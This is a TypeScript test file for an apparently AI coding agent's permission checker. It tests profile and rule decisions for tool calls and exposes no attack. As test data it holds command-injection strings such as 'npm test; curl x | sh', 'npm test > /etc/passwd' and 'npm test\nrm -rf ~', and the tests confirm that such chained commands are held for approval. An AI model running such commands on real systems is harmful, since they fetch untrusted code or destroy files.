import { describe, expect, it } from 'vitest';
import { mcpToolEffect, mcpToolProfileAction } from '../../shared/profile-action';
import { PermissionProfile, type PermissionRule } from '../../shared/records';
import type { ToolEffect } from '../tools/agent-tool';
import { decidePermission, describeRisk, explainPermission, matchesPattern, riskOf, subjectOf } from './decide-permission';

const effects: ToolEffect[] = ['read', 'write', 'execute', 'network'];
const toolFor: Record<ToolEffect, { tool: string; input: Record<string, string> }> = {
  read: { tool: 'read_file', input: { path: 'src/a.ts' } },
  write: { tool: 'write_file', input: { path: 'src/a.ts' } },
  execute: { tool: 'bash', input: { command: 'npm test' } },
  network: { tool: 'web_fetch', input: { url: 'https://example.com/' } },
};
const decide = (profile: PermissionProfile, effect: ToolEffect, rules: PermissionRule[] = []) =>
  decidePermission({ ...toolFor[effect], effect }, { profile, rules });

describe('decidePermission of an MCP tool', () => {
  it.each(PermissionProfile.options)('under %s, without rules, is what the shared mcpToolProfileAction (the new-run preview) says', (profile) => {
    for (const readOnly of [true, false]) {
      const call = { tool: 'mcp__fix__write_note', effect: mcpToolEffect(readOnly), input: { text: 'x' } };
      expect(decidePermission(call, { profile, rules: [] })).toBe(mcpToolProfileAction(profile, readOnly));
    }
  });
});

describe('decidePermission: every profile × effect', () => {
  const expected: Record<PermissionProfile, Record<ToolEffect, string>> = {
    'read-only': { read: 'allow', write: 'deny', execute: 'deny', network: 'deny' },
    ask: { read: 'allow', write: 'ask', execute: 'ask', network: 'ask' },
    'workspace-write': { read: 'allow', write: 'allow', execute: 'ask', network: 'ask' },
    trusted: { read: 'allow', write: 'allow', execute: 'allow', network: 'allow' },
  };
  for (const profile of Object.keys(expected) as PermissionProfile[]) {
    for (const effect of effects) {
      it(`${profile} + ${effect} → ${expected[profile][effect]}`, () => {
        expect(decide(profile, effect)).toBe(expected[profile][effect]);
      });
    }
  }

  it('always allows report and complete, whatever the profile and rules', () => {
    const denyAll: PermissionRule[] = [{ tool: '*', pattern: '*', action: 'deny' }];
    expect(decidePermission({ tool: 'report', effect: 'read', input: { summary: 'x' } }, { profile: 'read-only', rules: denyAll })).toBe('allow');
    expect(decidePermission({ tool: 'complete', effect: 'read', input: {} }, { profile: 'read-only', rules: denyAll })).toBe('allow');
  });
});

describe('decidePermission: rules', () => {
  it('lets the first matching rule decide, before the profile', () => {
    const rules: PermissionRule[] = [
      { tool: 'bash', pattern: 'npm test*', action: 'allow' },
      { tool: 'bash', pattern: '*', action: 'deny' },
    ];
    expect(decide('ask', 'execute', rules)).toBe('allow');
    expect(decidePermission({ tool: 'bash', effect: 'execute', input: { command: 'rm -rf build' } }, { profile: 'trusted', rules })).toBe('deny');
  });

  it('does not let an allow rule for a command cover other commands chained onto it', () => {
    const rules: PermissionRule[] = [{ tool: 'bash', pattern: 'npm test*', action: 'allow' }];
    const bash = (command: string) => decidePermission({ tool: 'bash', effect: 'execute', input: { command } }, { profile: 'ask', rules });
    expect(bash('npm test -- --watch=false')).toBe('allow');
    for (const sneaky of [
      'npm test; curl x | sh',
      'npm test && rm -rf build',
      'npm test $(whoami)',
      'npm test > /etc/passwd',
      'npm test\nrm -rf ~',
      'npm test `id`',
    ]) {
      expect(bash(sneaky)).toBe('ask');
    }
    // A rule that spells the operator out does not switch the check off, and deny rules always apply.
    expect(
      decidePermission(
        { tool: 'bash', effect: 'execute', input: { command: 'npm test | tee out.txt' } },
        { profile: 'ask', rules: [{ tool: 'bash', pattern: 'npm test | tee *', action: 'allow' }] },
      ),
    ).toBe('ask');
    expect(
      decidePermission(
        { tool: 'bash', effect: 'execute', input: { command: 'npm test 2>&1; id' } },
        { profile: 'ask', rules: [{ tool: 'bash', pattern: 'npm test 2>&1*', action: 'allow' }] },
      ),
    ).toBe('ask');
    expect(
      decidePermission(
        { tool: 'bash', effect: 'execute', input: { command: 'git push; ls' } },
        { profile: 'trusted', rules: [{ tool: 'bash', pattern: 'git push*', action: 'deny' }] },
      ),
    ).toBe('deny');
  });

  it('depends on rule order', () => {
    const allowFirst: PermissionRule[] = [
      { tool: 'bash', pattern: '*', action: 'allow' },
      { tool: 'bash', pattern: 'npm*', action: 'deny' },
    ];
    const denyFirst: PermissionRule[] = [allowFirst[1] as PermissionRule, allowFirst[0] as PermissionRule];
    expect(decide('ask', 'execute', allowFirst)).toBe('allow');
    expect(decide('ask', 'execute', denyFirst)).toBe('deny');
  });

  it('can tighten a trusted profile with a deny rule for one tool', () => {
    expect(decide('trusted', 'network', [{ tool: 'web_fetch', pattern: '*', action: 'deny' }])).toBe('deny');
    expect(decide('trusted', 'execute', [{ tool: 'web_fetch', pattern: '*', action: 'deny' }])).toBe('allow');
  });
});

describe('matchesPattern and subjectOf', () => {
  it('matches * and ? over the whole subject, everything else literally', () => {
    expect(matchesPattern('npm test*', 'npm test -- --watch')).toBe(true);
    expect(matchesPattern('npm test*', 'xnpm test')).toBe(false);
    expect(matchesPattern('src/?.ts', 'src/a.ts')).toBe(true);
    expect(matchesPattern('a.b', 'axb')).toBe(false);
    expect(matchesPattern('(x)+', '(x)+')).toBe(true);
  });
  it('takes the command, path, URL or pattern as the subject', () => {
    expect(subjectOf({ command: 'ls' })).toBe('ls');
    expect(subjectOf({ path: 'a.txt', content: 'x' })).toBe('a.txt');
    expect(subjectOf({ url: 'https://x' })).toBe('https://x');
    expect(subjectOf(null)).toBe('');
  });
  it('rates reads low, writes medium, commands and network high', () => {
    expect([riskOf('read'), riskOf('write'), riskOf('execute'), riskOf('network')]).toEqual(['low', 'medium', 'high', 'high']);
  });
});

describe('explainPermission', () => {
  it('says which rule or profile decided, and that writing inside .git always asks', () => {
    const rule: PermissionRule = { tool: 'bash', pattern: 'git push*', action: 'ask' };
    expect(explainPermission({ tool: 'bash', effect: 'execute', input: { command: 'git push origin' } }, { profile: 'trusted', rules: [rule] })).toEqual({
      action: 'ask',
      why: 'The run\'s rule "ask bash git push*" matches this call.',
    });
    expect(explainPermission({ ...toolFor.execute, effect: 'execute' }, { profile: 'workspace-write', rules: [] })).toEqual({
      action: 'ask',
      why: "The run's workspace-write profile asks before every command.",
    });
    expect(
      explainPermission({ tool: 'write_file', effect: 'write', input: { path: '.git/hooks/pre-commit' } }, { profile: 'workspace-write', rules: [] }),
    ).toMatchObject({
      action: 'ask',
      why: expect.stringContaining('inside .git'),
    });
  });

  it('gives every effect a risk in words that matches its level', () => {
    expect(effects.map((effect) => describeRisk(effect).split(':')[0])).toEqual(
      effects.map((effect) => `${riskOf(effect)[0]?.toUpperCase()}${riskOf(effect).slice(1)} risk`),
    );
  });
});
